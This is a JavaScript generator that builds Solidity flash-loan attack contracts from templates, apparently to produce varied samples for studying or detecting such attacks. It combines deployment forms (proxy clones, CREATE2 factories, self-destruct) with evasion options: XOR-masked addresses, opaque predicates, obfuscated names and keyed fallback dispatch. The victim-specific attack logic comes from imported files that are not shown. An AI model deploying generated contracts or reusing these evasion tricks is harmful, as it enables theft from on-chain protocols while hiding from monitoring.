// SPDX-License-Identifier: BSD-3-Clause
// Puts a provider, a family of attack, a form of deployment and a style together into one Solidity source, and renders that for
// a compiler. Identifiers of the templates start with `$`; the style names them.
import { AbiCoder } from "ethers";
import { LIBRARIES } from "./libraries.mjs";
import { OPEN_DISPATCHES, OPEN_ENCODINGS, Writer, dispatch, selectorOf, typesOf } from "./writer.mjs";
import { Random } from "../random.mjs";

// two: deploy, then start; destroy: removes itself at the end; child: a constructor creates it and starts it; proxy: behind an
// EIP-1167 clone; factory: created by CREATE2 later; wallet: profits stay until taken
export const FORMS = ["two", "destroy", "child", "proxy", "factory", "wallet"];
// constant and state: in the code; argument: appended to it; late: told when it starts; masked: in the code under a key
export const ADDRESSES = ["constant", "state", "argument", "late", "masked"];

const STARTS = ["go", "start", "attack", "run", "execute", "exploit", "trigger", "work", "play", "begin", "doIt", "launch"];
const CALLBACKS = ["onUnlock", "cb", "inside", "step", "handle", "callBack", "_process", "main"];

function addressState(spec, name, value) {
	const masked = "0x" + (BigInt(value) ^ BigInt(spec.mask)).toString(16).padStart(64, "0");
	switch (spec.addresses) {
		case "constant":
			return { state: `address constant ${name} = ${value};` };
		case "state":
			return { state: `address ${name} = ${value};` };
		case "argument":
			return { state: `address /*imm*/ ${name};`, argument: value };
		case "late":
			return { state: `address ${name};`, late: true };
		default:
			return { state: `address ${name};`, construct: `${name} = address(uint160(uint256(${masked}) ^ $veil));` };
	}
}

// the callback as an ABI function, or as statements of the fallback
function callbackText(provider, c, spec, random) {
	const callback = spec.callback;
	const open = provider.open
		? provider.open(c).replaceAll("$b", spec.dispatch === "abi" ? provider.got : provider.rawGot)
		: "";
	if (spec.dispatch === "abi") {
		const types = typesOf(callback),
			name = callback.slice(0, callback.indexOf("("));
		const params = types.map((t, i) => `${/\]$|^bytes$/.test(t) ? t + " calldata" : t} ${provider.names[i]}`).join(", ");
		const head = provider.head ?? `${name}(${params}) external`;
		const guard = spec.guard ? 'require(msg.sender == $lender, "!lender");' : "";
		return `
	function ${head}${provider.returns ? ` returns (${provider.returns})` : ""} {
		${guard}
		${open}
		$hit(${provider.got});
		${provider.repay(c, "(" + provider.owe + ")")}
		${provider.gives ? `return ${provider.gives};` : ""}
	}`;
	}
	const back =
		provider.word === undefined
			? ""
			: provider.word === "bytes"
				? "assembly { mstore(0, 32) mstore(32, 0) return(0, 64) }"
				: `assembly { mstore(0, ${provider.word}) return(0, 32) }`;
	return `
	function $at(uint256 o) internal pure returns (uint256 v) { assembly { v := calldataload(o) } }
	function $serve() internal {
		${open}
		uint256 o = ${provider.rawOwe};
		$hit(${provider.rawGot});
		${provider.repay(c, "o")}
		${back}
	}`;
}

function sendText() {
	return `
	function $send(address t, uint256 v, bytes memory d) internal {
		bool ok;
		assembly { ok := call(gas(), t, v, add(d, 32), mload(d), 0, 0) }
		require(ok);
	}`;
}

// an always-false condition that a compiler cannot see through, and what would be done
function opaque(random) {
	const k = 3 + 2 * random.below(50);
	return `uint256 z = block.timestamp % 1000003;
		if ((z * z + z) % 2 == 1) { $noise = z * ${k}; return; }
		if ((7 * z * z + 1) % 7 == 3) { revert("${random.hex(6)}"); }`;
}

function members(provider, family, spec, c, random) {
	const amount = `${1 + random.below(900)}000 ether`;
	const data = random.pick(["abi.encode(n)", "new bytes(1)", "abi.encode(msg.sender, n)"]);
	const addresses = [
		["$lender", spec.lender],
		["$asset", provider.asset],
		...family.victims.map((v) => [v, random.address()]),
	];
	const places = addresses.map(([name, value]) => addressState(spec, name, value));
	const late = places[0].late;
	const entry = provider
		.entry(c)
		.replaceAll("$data", data)
		.replaceAll(
			"$CALLBACK",
			spec.dispatch === "abi" ? `this.${spec.callback.split("(")[0]}.selector` : `bytes4(${selectorOf(spec.callback)})`,
		);
	const hit = family.hit(c).replaceAll("$CALLBACK", "0x0");
	const reenter = family.reenter ? family.reenter(c) : "";
	const callback = callbackText(provider, c, spec, random);
	const take = c.get("$asset", "balanceOf(address)", "address(this)");
	const paying =
		spec.form === "wallet"
			? ""
			: c.call("$asset", "transfer(address,uint256)", `${spec.owned ? "$owner" : "tx.origin"}, ${take}`);
	return { amount, addresses, places, late, entry, hit, reenter, callback, take, paying };
}

function contractText(provider, family, spec, c, random, m) {
	const args = m.places.map((p, i) => ({ ...p, name: m.addresses[i][0] })).filter((p) => p.argument);
	const params = args.map((p, i) => `address q${i}`).join(", ");
	const construct = [
		spec.owned ? `$owner = ${spec.dispatch === "sender" ? "tx.origin" : "msg.sender"};` : "",
		...args.map((p, i) => `${p.name} = q${i};`),
		...m.places.map((p) => p.construct ?? ""),
		c.construct(),
	]
		.filter(Boolean)
		.join("\n\t\t");
	const lates = m.late
		? ", address q0, address q1" +
			m.addresses
				.slice(2)
				.map((_, i) => `, address q${i + 2}`)
				.join("")
		: "";
	const setLates = m.late ? m.addresses.map(([name], i) => `${name} = q${i};`).join("\n\t\t") : "";
	const startFunction =
		spec.dispatch === "abi"
			? `
	function ${spec.start}(uint256 n${lates}) external {
		${spec.owned ? "require(msg.sender == $owner);" : ""}
		${setLates}
		$run(n);
	}`
			: "";
	const receive =
		spec.dispatch === "abi"
			? `
	receive() external payable {${m.reenter ? `\n\t\t${m.reenter}\n\t` : ""}}`
			: `
	fallback() external payable {
		if (msg.data.length < 4) { ${m.reenter} return; }
		${dispatch(spec.dispatch, selectorOf(spec.callback), spec.startSelector, spec.key)}
	}`;
	return `contract $Main {
	${[
		...m.places.map((p) => p.state),
		spec.owned ? "address $owner;" : "",
		spec.addresses === "masked" ? `uint256 $veil = ${spec.mask};` : "",
		spec.dispatch === "key" ? `uint256 $mask = ${spec.key};` : "",
		spec.opaque ? "uint256 $noise;" : "",
		provider.state ?? "",
		family.state ?? "",
		c.state(),
	]
		.filter(Boolean)
		.join("\n\t")}
	constructor(${params}) public {
		${construct}
	}
${startFunction}${receive}
	function $run(uint256 n) internal {
		${spec.opaque ? opaque(random) : ""}
		${m.entry}
		${m.paying}
		${spec.form === "destroy" ? "assembly { selfdestruct(caller()) }" : ""}
	}
${m.callback}
	function $hit(uint256 n) internal {
		${m.hit}
	}${
		spec.form === "wallet" && spec.dispatch === "abi"
			? `
	function take(address to) external {
		${spec.owned ? "require(msg.sender == $owner);" : ""}
		${c.call("$asset", "transfer(address,uint256)", `to, ${m.take}`)}
	}`
			: ""
	}${family.needsSend ? sendText() : ""}${c.helpers()}${spec.library ? LIBRARIES[spec.library] : ""}
}
`;
}

function outerText(spec, amount) {
	const call = `$start(address(x), ${amount});`;
	const start = `
	function $start(address x, uint256 n) internal {
		bytes memory d = abi.encodeWithSelector(bytes4(${spec.startSelector}), n);
		bool ok;
		assembly { ok := call(gas(), x, 0, add(d, 32), mload(d), 0, 0) }
		require(ok);
	}`;
	switch (spec.form) {
		case "child":
			return `
contract $Outer {
	constructor() public {
		$Main x = new $Main();
		${call}
		${spec.vanish ? "assembly { selfdestruct(origin()) }" : ""}
	}${start}
}
`;
		case "proxy":
			return `
contract $Outer {
	address public $last;
	constructor() public {
		$Main m = new $Main();
		bytes20 t = bytes20(address(m));
		address x;
		assembly {
			let c := mload(0x40)
			mstore(c, 0x3d602d80600a3d3981f3363d3d373d3d3d363d73000000000000000000000000)
			mstore(add(c, 20), t)
			mstore(add(c, 40), 0x5af43d82803e903d91602b57fd5bf30000000000000000000000000000000000)
			x := create(0, c, 55)
		}
		$last = x;
		${spec.vanish ? call : ""}
	}
	function $again() external { ${call.replace("address(x)", "$last")} }${start}
}
`;
		default:
			return `
contract $Outer {
	event Made(address at);
	function make(bytes32 salt) external {
		bytes memory code = type($Main).creationCode;
		address x;
		assembly { x := create2(0, add(code, 32), mload(code), salt) }
		require(x != address(0));
		emit Made(x);
		${spec.vanish ? call : ""}
	}
	function start(address x, uint256 n) external { $start(x, n); }${start}
}
`;
	}
}

const WORDS = [
	"Strategy",
	"Helper",
	"Worker",
	"Vault",
	"Manager",
	"Router",
	"Bot",
	"Keeper",
	"Exploit",
	"Attack",
	"Runner",
	"Test",
];

function name(text, spec, random) {
	const names = new Map();
	return text.replace(/\$[A-Za-z]\w*/g, (match) => {
		if (!names.has(match)) {
			let made = "_" + match.slice(1);
			if (spec.style === "obfuscated") made = `_0x${random.hex(3).slice(2)}${names.size}`;
			if (match === "$Main") made = random.pick(WORDS) + "A";
			if (match === "$Outer") made = random.pick(WORDS) + "B";
			if (match === "$Face") made = "I" + random.pick(WORDS);
			names.set(match, made);
		}
		return names.get(match);
	});
}

// spec: { style, encoding, dispatch, form, addresses, library, opaque }; gives { source, contract, arguments, since, evasive, ... }
export function makeSource(id, provider, family, choice) {
	const random = new Random(id);
	const lenders = [].concat(provider.lender);
	const spec = {
		...choice,
		lender: random.pick(lenders),
		guard: random.chance(50),
		vanish: random.chance(50),
		key: random.selector(),
		mask: random.hex(32).replace(/^0x.{24}/, "0x" + "0".repeat(24)),
	};
	const outer = ["child", "proxy", "factory"].includes(spec.form);
	spec.owned = (!outer && random.chance(60)) || spec.dispatch === "sender";
	spec.start = spec.style === "plain" ? random.pick(STARTS) : `f_${random.hex(4).slice(2)}`;
	spec.startSelector = spec.dispatch === "abi" ? selectorOf(`${spec.start}(uint256)`) : random.selector();
	spec.callback = provider.callback.replace(
		"$free",
		spec.style === "plain" ? random.pick(CALLBACKS) : `g_${random.hex(4).slice(2)}`,
	);
	const c = new Writer(spec.encoding, random);
	const m = members(provider, family, spec, c, random);
	const body = contractText(provider, family, spec, c, random, m);
	const text = `pragma solidity >=0.4.22 <0.9.0;
${provider.types ? "pragma experimental ABIEncoderV2;\n" : ""}
${provider.types ? `/*types*/${provider.types}/*end*/` : ""}
${c.interfaceText()}
${body}${outer ? outerText(spec, m.amount) : ""}`;
	const args = m.places.map((p) => p.argument).filter(Boolean);
	const inCode = ["constant", "state"].includes(spec.addresses),
		open = OPEN_ENCODINGS.includes(spec.encoding);
	return {
		source: name(text, spec, random),
		contract: outer ? "B" : "A",
		callback: spec.callback,
		start: spec.startSelector,
		arguments: args.length
			? AbiCoder.defaultAbiCoder().encode(
					args.map(() => "address"),
					args,
				)
			: "0x",
		since:
			spec.encoding !== "interface" ||
			spec.dispatch !== "abi" ||
			spec.form === "factory" ||
			spec.form === "proxy" ||
			family.since
				? "0.5"
				: (provider.since ?? "0.4"),
		shows: {
			entry: open,
			callback: OPEN_DISPATCHES.includes(spec.dispatch),
			address: inCode || spec.addresses === "argument",
		},
	};
}

const version = (text) => text.split(".").map(Number);
export const atLeast = (a, b) => {
	const [x, y] = [version(a), version(b)];
	for (let i = 0; i < 3; i++) if ((x[i] ?? 0) !== (y[i] ?? 0)) return (x[i] ?? 0) > (y[i] ?? 0);
	return true;
};

// the dialect of a compiler: what is written differently before and after
export function render(source, solc) {
	let text = source;
	if (!atLeast(solc, "0.6.0")) text = text.replace(/\b(fallback|receive)\(\) external/g, "function() external");
	if (!atLeast(solc, "0.5.0"))
		text = text.replace(/ calldata/g, "").replace(/ memory(?= [a-z]+[,)] *(external|public))/g, "");
	const types = text.match(/\/\*types\*\/([^]*)\/\*end\*\//);
	if (types && !atLeast(solc, "0.6.0")) text = inward(text, types);
	return text.replace(/\/\*imm\*\/ /g, atLeast(solc, "0.6.5") ? "immutable " : "");
}

// before 0.6 a struct stands in a contract
function inward(text, types) {
	const names = [...types[1].matchAll(/struct (\w+)/g)].map((m) => m[1]);
	const at = types.index + types[0].length;
	const rest = text.slice(at).replace(new RegExp(`(?<![\\w.])(${names.join("|")})(?=[ (\\[])`, "g"), "Types.$1");
	return `${text.slice(0, types.index)}contract Types {\n${types[1]}\n}\n${rest}`;
}
